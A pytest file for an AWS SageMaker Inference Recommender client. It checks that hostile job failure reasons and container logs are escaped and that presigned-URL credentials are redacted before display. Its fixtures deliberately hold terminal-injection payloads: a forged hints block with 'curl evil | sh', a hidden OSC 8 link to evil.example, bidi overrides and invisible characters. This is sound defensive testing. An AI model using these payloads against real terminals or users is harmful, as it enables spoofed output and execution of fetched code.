"""Text from AWS and from model containers reaching a terminal, a notebook or a log.

Failure reasons and log lines are chosen by whoever created the job or wrote the container:
they must not overwrite a line, forge a block of output, rename the terminal, hide a link,
reorder text, carry invisible text, break Jupyter's message encoding, or print a credential.
"""

from __future__ import annotations

import datetime
import io
import json
import sys
from collections.abc import Callable
from typing import Any

import pytest

from cli_support import run
from client_support import ensure_model
from irclient import InferenceRecommenderClient, display
from irclient.cli import ExitCode, main
from irclient.cli import _waiting as cli_waiting
from irclient.cli._output import terminal_streams
from irclient.diagnosis import Diagnosis, diagnose
from irclient.joblogs import JOB_LOG_GROUP, LogEvent, endpoint_log_group, print_event
from irclient.models import (
    DescribeInferenceRecommendationsJobResponse,
    GetScalingConfigurationRecommendationResponse,
    InferenceRecommendationsJobStep,
)

JOB = "hostile-job"
ENDPOINT = "sm-epc-hostile"
# A reason that would overwrite its line and forge a hints block, an OSC 8 hyperlink that
# hides where it points, a right-to-left override, tag characters spelling hidden text, and a
# lone surrogate.
FORGED = "\r\nHints:\n  * forged hint (job).\n    run curl evil | sh"
LINK = "\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07"
HOSTILE = f"ModelError: returned 4xx or 5xx{FORGED} {LINK} \u202etxt.exe \U000e0068\U000e0069\ud800"
RAW = ("\r", "\x1b", "\x07", "\u202e", "\U000e0068", "\ud800", "\x9b", "\x7f")

KEY_ID = "ASIAIOSFODNN7EXAMPLE"
TOKEN = "IQoJb3JpZ2luX2VjEXAMPLEsessiontoken/value=="
PRESIGNED = (
    "https://bucket.s3.amazonaws.com/payload.zip?X-Amz-Algorithm=AWS4-HMAC-SHA256"
    f"&X-Amz-Credential={KEY_ID}%2F20261123%2Fus-east-1%2Fs3%2Faws4_request"
    f"&X-Amz-Security-Token={TOKEN}&X-Amz-Signature=abc"
)


def assert_safe(text: str) -> None:
    text.encode("utf-8")  # a lone surrogate raises here
    found = [c for c in RAW if c in text]
    assert not found, (found, text[:400])
    assert KEY_ID not in text and TOKEN not in text


def stamp(second: int) -> int:
    return (
        int(datetime.datetime(2026, 11, 23, 12, 0, second, tzinfo=datetime.UTC).timestamp()) * 1000
    )


# --------------------------------------------------------------------------- a hostile report


def job(reason: str = HOSTILE, url: str = PRESIGNED) -> DescribeInferenceRecommendationsJobResponse:
    return DescribeInferenceRecommendationsJobResponse.from_dict(
        {
            "JobName": JOB,
            "JobType": "Default",
            "JobArn": f"arn:aws:sagemaker:us-east-1:1:inference-recommendations-job/{JOB}",
            "RoleArn": "arn:aws:iam::123456789012:role/r",
            "Status": "FAILED",
            "FailureReason": reason,
            "CreationTime": datetime.datetime(2026, 11, 23, tzinfo=datetime.UTC),
            "LastModifiedTime": datetime.datetime(2026, 11, 23, tzinfo=datetime.UTC),
            "InputConfig": {
                "ModelName": "m",
                "ContainerConfig": {
                    "PayloadConfig": {
                        "SamplePayloadUrl": url,
                        "SupportedContentTypes": ["application/json"],
                    }
                },
            },
        }
    )


def failed_step(reason: str) -> InferenceRecommendationsJobStep:
    return InferenceRecommendationsJobStep.from_dict(
        {
            "StepType": "BENCHMARK",
            "JobName": JOB,
            "Status": "FAILED",
            "InferenceBenchmark": {
                "FailureReason": reason,
                "EndpointConfiguration": {
                    "EndpointName": ENDPOINT,
                    "VariantName": "AllTraffic",
                    "InstanceType": "ml.c5.xlarge",
                },
                "ModelConfiguration": {},
            },
        }
    )


def fake_logs(lines: dict[tuple[str, str], list[str]]) -> Callable[..., dict[str, Any]]:
    """A CloudWatch Logs caller answering from ``lines`` (group, stream) -> messages."""

    def call(operation: str, **params: Any) -> dict[str, Any]:
        group = params["logGroupName"]
        if operation == "DescribeLogStreams":
            prefix = params.get("logStreamNamePrefix", "")
            names = [s for g, s in lines if g == group and s.startswith(prefix)]
            return {"logStreams": [{"logStreamName": n} for n in names]}
        assert operation == "GetLogEvents"
        messages = lines[(group, params["logStreamName"])]
        return {"events": [{"timestamp": stamp(i), "message": m} for i, m in enumerate(messages)]}

    return call


LOG_LINES = {
    (JOB_LOG_GROUP, f"{JOB}/execution"): [f"ERROR Job failed: {HOSTILE}", "plain line"],
    (JOB_LOG_GROUP, f"{JOB}/Endpoint/{ENDPOINT}"): [f"Invoking {PRESIGNED}"],
    (endpoint_log_group(ENDPOINT), "AllTraffic/i-1"): [
        "Traceback (most recent call last):",
        f"ValueError: bad input {LINK}\u202e\x9b2J\x7f\ud800",
    ],
}


def hostile_report(reason: str = HOSTILE) -> Diagnosis:
    return diagnose(
        job(reason),
        lambda: [failed_step(reason), failed_step("payload archive is invalid")],
        lambda: fake_logs(LOG_LINES),
    )


def test_the_text_report_shows_each_reason_on_one_line_and_nothing_raw() -> None:
    text = str(hostile_report())
    assert_safe(text)
    lines = text.splitlines()
    # The forged block stays inside the reason's line: one "Hints:" heading, no forged entry.
    assert lines.count("Hints:") == 1
    assert not any(line.lstrip().startswith("* forged") for line in lines)
    assert not any(line.lstrip().startswith("run curl") for line in lines)
    reason = next(line for line in lines if line.startswith("Failure reason: "))
    assert "Hints: * forged hint" in reason and "\\x1b]8;;https://evil.example/\\x07" in reason
    assert "\\u202etxt.exe" in reason and "\\U000e0068" in reason and "\\ud800" in reason
    step = next(line for line in lines if line.startswith("  - ml.c5.xlarge"))
    assert "Hints: * forged hint" in step
    # Log lines of the container are escaped too.
    assert "ValueError: bad input \\x1b]8;;https://evil.example/" in text


def test_the_html_report_carries_no_bidi_override_surrogate_or_escape() -> None:
    page = hostile_report()._repr_html_()
    assert_safe(page)
    assert "\\u202etxt.exe" in page and "\\ud800" in page
    # Jupyter's message packer encodes the display as UTF-8 JSON: it must not fail.
    json.dumps({"text/html": page}).encode("utf-8")


def test_the_payload_hint_never_shows_the_presigned_urls_credentials() -> None:
    report = hostile_report("payload archive is invalid")
    [hint] = [h for h in report.hints if h.kind == "payload"]
    assert "X-Amz-Credential=<redacted>" in hint.advice
    assert "X-Amz-Security-Token=<redacted>" in hint.advice
    for shown in (str(report), report._repr_html_(), json.dumps(report.to_dict())):
        assert KEY_ID not in shown and TOKEN not in shown
        assert "payload.zip" in shown  # the URL is still named, less its credentials


def test_the_endpoint_label_is_the_analysis_label() -> None:
    from irclient.analysis import Benchmark

    serverless = InferenceRecommendationsJobStep.from_dict(
        {
            "StepType": "BENCHMARK",
            "JobName": JOB,
            "Status": "FAILED",
            "InferenceBenchmark": {
                "FailureReason": "x",
                "EndpointConfiguration": {
                    "EndpointName": ENDPOINT,
                    "VariantName": "AllTraffic",
                    "ServerlessConfig": {"MemorySizeInMB": 2048, "MaxConcurrency": 5},
                },
                "ModelConfiguration": {},
            },
        }
    )
    report = diagnose(job("x"), lambda: [serverless], lambda: fake_logs({}))
    [step] = report.failed_steps
    assert step.label == Benchmark.from_item(serverless).label == "serverless 2048 MB x5"


# --------------------------------------------------------------------------- the command line


@pytest.fixture(autouse=True)
def test_credentials(no_aws_configuration: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")


def test_why_prints_failure_reasons_on_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(
        InferenceRecommenderClient, "diagnose", lambda self, name, **_: hostile_report()
    )
    code, out, err = run(capsys, "why", JOB, "--region", "us-east-1")
    assert code == ExitCode.OK, err
    assert_safe(out)
    assert out.splitlines().count("Hints:") == 1
    assert not any(line.lstrip().startswith("* forged") for line in out.splitlines())

    code, out, err = run(capsys, "why", JOB, "--region", "us-east-1", "--json")
    assert code == ExitCode.OK, err
    assert_safe(out)
    report = json.loads(out)
    assert report["FailureReason"] == HOSTILE  # JSON keeps the value, as escapes


def hostile_events() -> list[LogEvent]:
    when = datetime.datetime(2026, 11, 23, 12, tzinfo=datetime.UTC)
    return [
        LogEvent(
            timestamp=when,
            message=f"step 1\rOVERWRITTEN {LINK} caf\u00e9 \x9b2J \x7f \u202e",
            log_group=JOB_LOG_GROUP,
            log_stream=f"{JOB}/execution",
        ),
        LogEvent(
            timestamp=when,
            message=f"fetching {PRESIGNED}",
            log_group=JOB_LOG_GROUP,
            log_stream=f"{JOB}/execution",
        ),
    ]


@pytest.fixture
def hostile_logs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        InferenceRecommenderClient,
        "iter_job_logs",
        lambda self, name, **_: iter(hostile_events()),
    )


def test_logs_text_mode_shows_no_carriage_return(
    hostile_logs: None, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "logs", JOB, "--region", "us-east-1")
    assert code == ExitCode.OK, err
    assert_safe(out)
    assert len(out.splitlines()) == 2
    assert "step 1\\x0dOVERWRITTEN" in out and "café" in out
    assert "X-Amz-Security-Token=<redacted>" in out


def test_logs_json_is_json_lines_with_every_value_kept(
    hostile_logs: None, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "logs", JOB, "--region", "us-east-1", "--json")
    assert code == ExitCode.OK, err
    assert_safe(out)
    lines = out.splitlines()
    assert len(lines) == 2
    first, second = (json.loads(line) for line in lines)
    assert first["message"] == hostile_events()[0].message
    assert "X-Amz-Security-Token=<redacted>" in second["message"]


def test_logs_json_in_an_ascii_locale_is_still_json(
    hostile_logs: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    buffer = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(buffer, encoding="ascii"))
    code = main(["logs", JOB, "--region", "us-east-1", "--json"])
    sys.stdout.flush()
    assert code == ExitCode.OK
    text = buffer.getvalue().decode("ascii")  # every byte is ASCII
    first = json.loads(text.splitlines()[0])
    assert "caf\u00e9" in first["message"] and "\x9b" in first["message"]


class FakeTerminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_run_logs_on_a_terminal_erases_the_status_line_for_real(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    terminal = FakeTerminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    with terminal_streams():
        cli_waiting._log_line(hostile_events()[0])
    written = terminal.getvalue()
    assert written.startswith("\r\x1b[K")  # irclient's own sequence, acted on
    assert "\\x1b[K" not in written
    assert_safe(written.removeprefix("\r\x1b[K"))  # the log line's are escapes


# --------------------------------------------------------------------------- the library


def test_str_of_a_log_event_is_one_safe_line() -> None:
    event = hostile_events()[0]
    assert_safe(str(event))
    assert event.message.startswith("step 1\r")  # the event keeps the line as logged


def test_wait_for_job_logs_prints_safe_lines(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for event in hostile_events():
        print_event(event)  # what wait_for_job(logs=True) forwards each event to
    out = capsys.readouterr().out
    assert_safe(out)
    assert len(out.splitlines()) == 2
    buffer = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(buffer, encoding="ascii"))
    print_event(hostile_events()[0])  # an ASCII locale: escapes, never UnicodeEncodeError
    sys.stdout.flush()
    assert b"caf\\xe9" in buffer.getvalue()


def test_wait_for_job_logs_true_on_the_simulator(capsys: pytest.CaptureFixture[str]) -> None:
    import boto3

    from irclient import RetryPolicy
    from irclient.testing import mock_inference_recommender

    with mock_inference_recommender():
        client = InferenceRecommenderClient(
            region_name="us-east-1", retry=RetryPolicy(sleep=lambda _: None)
        )
        logs = boto3.client("logs", region_name="us-east-1")
        logs.create_log_group(logGroupName=JOB_LOG_GROUP)
        logs.create_log_stream(logGroupName=JOB_LOG_GROUP, logStreamName=f"{JOB}/execution")
        logs.put_log_events(
            logGroupName=JOB_LOG_GROUP,
            logStreamName=f"{JOB}/execution",
            logEvents=[{"timestamp": stamp(0), "message": f"container says {LINK}\u202e"}],
        )
        ensure_model(client.boto3_client, "resnet50")
        client.create_inference_recommendations_job(
            job_name=JOB,
            job_type="Default",
            role_arn="arn:aws:iam::123456789012:role/r",
            input_config={"ModelName": "resnet50"},
        )
        client.wait_for_job(JOB, poll_interval=0, logs=True)
    out = capsys.readouterr().out
    assert "container says \\x1b]8;;https://evil.example/" in out
    assert_safe(out)


# --------------------------------------------------------------------------- displays


def scaling(**changes: Any) -> GetScalingConfigurationRecommendationResponse:
    return GetScalingConfigurationRecommendationResponse.from_dict(
        {
            "InferenceRecommendationsJobName": f"job\r\nCapacity: 1000 to 9999 instances{LINK}",
            "RecommendationId": "r-1\x1b[2J",
            "EndpointName": "ep\u202e1",
            "DynamicScalingConfiguration": {
                "MinCapacity": 1,
                "MaxCapacity": 2,
                "ScalingPolicies": [
                    {
                        "TargetTracking": {
                            "MetricSpecification": {
                                "Customized": {
                                    "MetricName": "m\rX",
                                    "Namespace": "ns\n",
                                    "Statistic": "Average\ud800",
                                }
                            },
                            "TargetValue": 1.0,
                        }
                    }
                ],
            },
            **changes,
        }
    )


def test_the_scaling_summary_is_one_safe_line_per_row() -> None:
    text = display.summary(scaling())
    assert_safe(text)
    labels = [line.split(":", 1)[0] for line in text.splitlines()]
    assert labels.count("Capacity") == 1  # the forged row stays inside the job's line
    assert "Job:" in text and "job Capacity: 1000 to 9999 instances" in text


def test_the_scaling_html_is_safe() -> None:
    assert_safe(scaling()._repr_html_() or "")


def test_notebook_tables_carry_no_lone_surrogate_or_bidi_override() -> None:
    import benchmark_samples as samples

    wire = samples.describe_wire(description="desc \u202e lone\ud800")
    wire["FailureReason"] = "x" * 300 + "\u202e\ud800"  # cut short: the rest goes in a title
    rows = samples.describe_wire()["InferenceRecommendations"]
    rows[0]["EndpointConfiguration"]["InstanceType"] = "ml.\u202e\ud800"
    wire["InferenceRecommendations"] = rows
    response = DescribeInferenceRecommendationsJobResponse.from_dict(wire)
    pages = [response._repr_html_() or "", display.render_html(response) or ""]
    from irclient.analysis import Benchmarks

    pages.append(Benchmarks(response)._repr_html_())
    for page in pages:
        assert_safe(page)
        json.dumps({"text/html": page}).encode("utf-8")


def test_every_shown_text_is_free_of_hidden_characters() -> None:
    # One sweep over the outputs above with the fuzz's own definition of "hidden".
    from hostile_text import check_shown

    check_shown(str(hostile_report()), layout=True)
    check_shown(display.summary(scaling()), layout=True)
    for event in hostile_events():
        check_shown(str(event), layout=False)
